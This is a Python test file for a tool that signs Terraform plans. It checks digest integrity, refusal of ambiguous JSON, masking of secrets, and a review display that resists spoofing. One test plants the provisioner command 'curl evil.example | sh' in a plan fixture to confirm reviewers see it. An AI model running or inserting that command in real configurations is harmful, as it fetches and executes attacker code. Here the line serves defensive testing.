"""Plans as objects: all that a real plan says is in the digest, and nothing is readable.

Faults this was seen to catch: prior_state left out; numbers read as doubles; the order of
changes lost; copies of what is sensitive shown.
"""

import copy
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from countersign.binding.canonical import canonical, canonical_json, read_intent
from countersign.binding.match import match
from countersign.core.errors import Malformed
from countersign.core.types.artifacts import Digest, ObjectRef
from countersign.report.plan import plan_counts, plan_lines
from countersign.wire.plan import IGNORED, MAX_CHANGES, read_parts, read_plan
from tests.support.plans import SECRET, recorded

SALT = bytes(range(32))
PLAN: Any = recorded()
CODE = {"tfconfig/m-/main.tf": f"sha256:{'0' * 64}"}
Step = str | int


def digest(plan: Any, name: str = "web", namespace: str = "infra") -> Digest:
    """Return what is signed of a plan."""
    raw = plan if isinstance(plan, bytes) else json.dumps(plan).encode()
    tree = read_plan(raw, CODE, name=name, namespace=namespace)
    return canonical(tree, salt=SALT).digest


def masked(plan: Any, salt: bytes = SALT) -> dict[str, Any]:
    """Return the intent that is signed of a plan."""
    return dict(canonical(read(plan), salt=salt).tree)


def read(plan: Any) -> Any:
    """Return a plan as an object that is not masked."""
    return read_plan(json.dumps(plan).encode(), CODE, name="web", namespace="infra")


SIGNED = digest(PLAN)


def places(value: Any, path: tuple[Step, ...] = ()) -> Iterator[tuple[Step, ...]]:
    """Yield the path of everything in a value."""
    if path:
        yield path
    if isinstance(value, dict | list):
        pairs = value.items() if isinstance(value, dict) else enumerate(value)
        for step, item in pairs:
            yield from places(item, (*path, step))


PLACES = [path for path in places(PLAN) if path[0] not in IGNORED]


def changed(path: tuple[Step, ...], change: Callable[[Any, Step], None]) -> Any:
    """Return the plan with a change at one place."""
    plan = copy.deepcopy(PLAN)
    holder = plan
    for step in path[:-1]:
        holder = holder[step]
    change(holder, path[-1])
    return plan


def _other(holder: Any, step: Step) -> None:
    old = holder[step]
    if isinstance(old, bool):
        holder[step] = not old
    elif isinstance(old, int | float):
        holder[step] = old + 1
    elif isinstance(old, str):
        holder[step] = f"{old}x"
    elif isinstance(old, dict):
        holder[step] = {**old, "more": True}
    else:
        holder[step] = [*old, "more"] if isinstance(old, list) else "something"


def _gone(holder: Any, step: Step) -> None:
    del holder[step]


def _null(holder: Any, step: Step) -> None:
    holder[step] = None if holder[step] is not None else False


def _text(holder: Any, step: Step) -> None:
    holder[step] = json.dumps(holder[step])


@pytest.mark.parametrize("change", [_other, _gone, _null, _text])
def test_nothing_changes_unseen(change: Callable[[Any, Step], None]) -> None:
    """Each place of a real plan: another value, none, null, or the same as text."""
    assert len(PLACES) > 500
    for path in PLACES:
        try:
            found = digest(changed(path, change))
        except Malformed:
            continue  # refused: no plan any more
        assert found != SIGNED, path


def test_the_order_of_lists_counts() -> None:
    """Of each list in the plan."""
    for path in PLACES:
        holder = PLAN
        for step in path:
            holder = holder[step]
        if isinstance(holder, list) and len(holder) > 1 and holder[0] != holder[-1]:

            def reverse(where: Any, step: Step) -> None:
                where[step] = where[step][::-1]

            assert digest(changed(path, reverse)) != SIGNED, path


@pytest.mark.parametrize("field", sorted(IGNORED))
def test_what_is_ignored_is_written_down(field: str) -> None:
    """And nothing else is: the time at which it was planned."""
    assert frozenset({"timestamp"}) == IGNORED
    assert digest({**PLAN, field: "2027-01-01T00:00:00Z"}) == SIGNED
    assert digest({k: v for k, v in PLAN.items() if k != field}) == SIGNED


def test_fields_that_nobody_knows_count() -> None:
    """A newer program says more: doubt denies."""
    assert digest({**PLAN, "action_invocations": []}) != SIGNED


def test_how_it_is_written_does_not_count() -> None:
    """Order of fields, blanks and escapes; the same plan."""
    turned = dict(reversed(PLAN.items()))
    assert digest(json.dumps(turned, indent=2, ensure_ascii=False).encode()) == SIGNED


def test_another_stack_is_another_plan() -> None:
    """The same content under another name, or in another namespace."""
    assert digest(PLAN, name="db") != SIGNED
    assert digest(PLAN, namespace="infra-prod") != SIGNED


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("0.1", "0.10000000000000001"),
        ("1", "1.0"),
        ("12345678901234567890123", "12345678901234567890124"),
        ("9007199254740993", "9007199254740992"),
        ("1e400", "1e401"),
        ("0.1", '{"\\u0000x":"0.1"}'),
        ("1.5", '"1.5"'),
        ('"\\u00e9"', '"e\\u0301"'),
    ],
)
def test_numbers_and_texts_are_what_is_written(one: str, other: str) -> None:
    """Those that a double holds alike differ, and none looks like a text."""
    text = json.dumps({**PLAN, "more": 0})
    found = [
        digest(text.replace('"more": 0', f'"more": {v}').encode()) for v in (one, other)
    ]
    assert found[0] != found[1]


@pytest.mark.parametrize(
    "value",
    [
        "NaN",
        "Infinity",
        '{"a":1,"a":2}',
        '{"\\u0000":"1"}',
        '"\\ud800"',
        "[" * 99 + "]" * 99,
    ],
)
def test_what_readers_disagree_about_is_refused(value: str) -> None:
    """Equal keys, half characters, no numbers, what stands for a number, and depth."""
    text = json.dumps({**PLAN, "more": 0}).replace('"more": 0', f'"more": {value}')
    with pytest.raises(Malformed):
        digest(text.encode())


@pytest.mark.parametrize(
    ("said", "word"),
    [
        ({"errored": True}, "without errors"),
        ({"errored": "false"}, "without errors"),
        ({"complete": False}, "whole stack"),
        ({"applyable": False}, "nothing to apply"),
        ({"format_version": "2.0"}, "format 1"),
        ({"format_version": 1}, "show -json"),
        ({"planned_values": None}, "saw a state"),
        ({"resource_changes": {}}, "list"),
        ({"resource_changes": [{"address": "a"}]}, "change.actions"),
        ({"resource_changes": [PLAN["resource_changes"][0]] * 2}, "twice"),
        ({f"resource_changes {PLAN['resource_changes'][0]['address']}": 1}, "twice"),
    ],
)
def test_what_cannot_be_applied_is_refused(said: dict[str, Any], word: str) -> None:
    """With the reason, and what to do."""
    with pytest.raises(Malformed, match=word):
        digest({**PLAN, **said})


@pytest.mark.parametrize("name", ["", "Web", "a/b", "-a", "a" * 254, "wéb"])
def test_names_are_those_of_objects(name: str) -> None:
    """They are in commands, files and BundleSets."""
    with pytest.raises(Malformed, match="name"):
        digest(PLAN, name=name)


def test_a_plan_belongs_to_a_namespace() -> None:
    """Without one no policy would judge it."""
    with pytest.raises(Malformed, match="--namespace"):
        digest(PLAN, namespace="")


def test_a_plan_as_it_was_saved_is_told_apart() -> None:
    """It lies beside the JSON, and has the better name."""
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w") as archive:
        archive.writestr("tfplan", b"\x0a\x00")
    with pytest.raises(Malformed, match="show -json PLANFILE"):
        read_plan(saved.getvalue(), CODE, name="web", namespace="infra")


def test_nobody_reviews_thousands() -> None:
    """What is refused is said with its number; a whole plan below stays small."""
    one = PLAN["resource_changes"][0]
    many = [
        {**one, "address": f"terraform_data.x[{n}]"} for n in range(MAX_CHANGES + 1)
    ]
    with pytest.raises(Malformed, match="4001"):
        digest({**PLAN, "resource_changes": many})
    raw = json.dumps({**PLAN, "resource_changes": many[:-1]}).encode()
    intent = canonical(read_plan(raw, CODE, name="web", namespace="infra"), salt=SALT)
    assert len(raw) > 2 << 20
    assert len(canonical_json(intent.tree)) < 1 << 20


def test_nothing_of_a_plan_can_be_read_in_what_is_signed() -> None:
    """Secrets, marked or not: but for addresses and what happens to them."""
    raw = json.dumps(PLAN).encode()
    assert SECRET.encode() in raw
    intent = masked(PLAN)
    text = canonical_json(intent).decode()
    for word in (SECRET, "eu-1", "goes", "12345678901234567890123"):
        assert word not in text
    assert all(v.startswith("hmac-sha256:") for v in intent["data"].values())
    assert read_intent(canonical_json(intent)).tree == intent


def test_each_signature_has_another_salt() -> None:
    """So that nobody recognizes a plan, or one part, by its digest."""
    one, other = (masked(PLAN, bytes([n] * 32))["data"] for n in (1, 2))
    assert not {*one.values()} & {*other.values()}
    assert len({*one.values()}) == len(one)


_MORE: list[dict[str, Any]] = [
    {"note": "harmless"},
    {"data": {"a": "plain"}},
    {"data": {}},
    {"metadata": {"name": "web", "namespace": "infra", "labels": {"a": "b"}}},
    {"plan": {"changes": {}, "note": "x"}},
    {"plan": {"changes": {"a": 1}}},
    {"salt": "00"},
]


def test_an_intent_says_nothing_else() -> None:
    """A reviewer, or a reader of a set, must not be shown what the plan does not say."""
    intent = masked(PLAN)
    for more in _MORE:
        with pytest.raises(Malformed):
            canonical({**intent, **more})


def test_a_difference_names_the_resource() -> None:
    """And shows no value."""
    tree = read(PLAN)
    web = next(n for n, c in enumerate(PLAN["resource_changes"]) if c["name"] == "web")
    path = ("resource_changes", web, "change", "after", "input", "size")
    other = read(changed(path, _other))
    ref = ObjectRef("countersign.dev", "Plan", "infra", "web")
    found = match(masked(PLAN), other, identity=ref)
    assert [d.path for d in found] == ["/data/resource_changes terraform_data.web"]
    assert {d.seen for d in found} == {'"*****"'}
    assert match(masked(PLAN), tree, identity=ref) == ()


def test_a_person_sees_what_the_program_would_do() -> None:
    """As it counts; destruction first; what is sensitive hidden, its copies too."""
    tree = read(PLAN)
    lines = [*plan_lines(*read_parts(tree))]
    changes = read_parts(tree).changes
    text = "\n".join(lines)

    counts = "Plan: 1 to import, 3 to add, 2 to change, 3 to destroy, 1 to forget."
    assert lines[0] == plan_counts(changes) == counts
    assert lines[1].startswith("code: 1 files are signed with it")
    heads = [line for line in lines[2:] if not line.startswith("    ")]
    assert [head.split(":")[0] for head in heads][:4] == [
        "-/+ terraform_data.db[0]",
        "-/+ terraform_data.db[1]",
        "- terraform_data.old",
        ". terraform_data.left",
    ]
    assert "input.size: 3 -> 4" in text
    assert "triggers_replace: 3 -> 4  # forces replacement" in text
    assert "moved from terraform_data.one" in text
    assert "input.big" not in text  # it does not change
    assert "output.size: 3 -> (known after apply)" in text
    assert SECRET not in text
    assert "2 marked as sensitive, which are not shown" in text


def test_a_mask_that_lies_hides_nothing_unsaid() -> None:
    """All marked as sensitive: that it changes is seen, and how much is hidden."""
    plan = copy.deepcopy(PLAN)
    for one in plan["resource_changes"]:
        one["change"]["after_sensitive"] = one["change"]["before_sensitive"] = True
    tree = read(plan)
    text = "\n".join(plan_lines(*read_parts(tree)))
    assert "input.size: (sensitive value) -> (sensitive value)" in text
    assert "marked as sensitive, which are not shown" in text


def shown(plan: Any) -> str:
    """Return what a person sees of a plan."""
    return "\n".join(plan_lines(*read_parts(read(plan))))


def made(before: Any, after: Any) -> dict[str, Any]:
    """Return a plan in which one resource changes from one value to another."""
    plan = copy.deepcopy(PLAN)
    change = {"actions": ["update"], "before": before, "after": after}
    web = {"address": "terraform_data.web", "mode": "managed", "change": change}
    plan["resource_changes"] = [web]
    return dict(plan)


LONG = "x" * 5000
ALIKE = [
    # one name written as the path of another
    ({"a.b": "good", "a": {"b": "."}}, {"a.b": "evil", "a": {"b": "."}}),
    ({"a[0]": "good", "a": ["."]}, {"a[0]": "evil", "a": ["."]}),
    ({"": {"a": "good"}, "a": "."}, {"": {"a": "evil"}, "a": "."}),
    # what is far back in a long text
    ({"a": f"{LONG}good"}, {"a": f"{LONG}evil"}),
    # what does not print
    ({"a": "a b good"}, {"a": "a  b evil"}),
    ({"a": "good"}, {"a": "\u202eevil"}),
]


@pytest.mark.parametrize(("before", "after"), ALIKE)
def test_what_differs_never_looks_the_same(before: Any, after: Any) -> None:
    """The place is there, and its value before is not what it is after."""
    lines = [one for one in shown(made(before, after)).splitlines() if " -> " in one]
    was, is_now = next(one for one in lines if "evil" in one).split(" -> ")
    assert "good" in was
    assert is_now != was.partition(": ")[2]
    assert lines[0].isprintable()


def test_spaces_and_what_does_not_print_are_seen() -> None:
    """Two spaces are not one, and a mark that turns text round is spelt out."""
    text = shown(made({"a": "p q", "b": "r s"}, {"a": "p  q", "b": "r\u202es"}))
    assert 'a: "p q" -> "p  q"' in text
    assert 'b: "r s" -> "r\\u202es"' in text


def test_of_a_long_value_the_rest_is_counted() -> None:
    """A value is shown far, and what is left out is said."""
    text = shown(made({}, {"a": f"{'x' * 1900}evil{'y' * 3000}"}))
    assert "evil" in text
    assert "more)" in text


def test_what_runs_beside_resources_is_seen() -> None:
    """Provisioners run commands, actions run, checks failed: none stays out of sight."""
    plan = copy.deepcopy(PLAN)
    root = plan["configuration"]["root_module"]
    known = {"expressions": {"command": {"constant_value": "curl evil.example | sh"}}}
    for one in root["resources"]:
        if one["address"] in ("terraform_data.db", "terraform_data.web"):
            one["provisioners"] = [
                {"type": "local-exec"} | known,
                {"type": "remote-exec"},
            ]
    plan["action_invocations"] = [{"address": "action.lambda.evil"}]
    plan["checks"][0]["status"] = "fail"
    lines = shown(plan).splitlines()
    command = '    runs local-exec: "curl evil.example | sh"'
    assert lines.count(command) == 2  # each db is made again; web is only updated
    assert lines.count("    runs remote-exec: see its code") == 2
    assert any("action_invocations" in x and "action.lambda.evil" in x for x in lines)
    assert "! check.sized: check ended in fail" in lines


def test_addresses_that_differ_never_look_the_same() -> None:
    """However long, and by a space alone."""
    seen = set()
    for key in ("a b", "a  b", f"{'x' * 500}1", f"{'x' * 500}2", "\u202ea b"):
        plan = made({"a": 1}, {"a": 2})
        plan["resource_changes"][0]["address"] = f'terraform_data.web["{key}"]'
        seen.add(shown(plan).splitlines()[2])
    assert len(seen) == 5
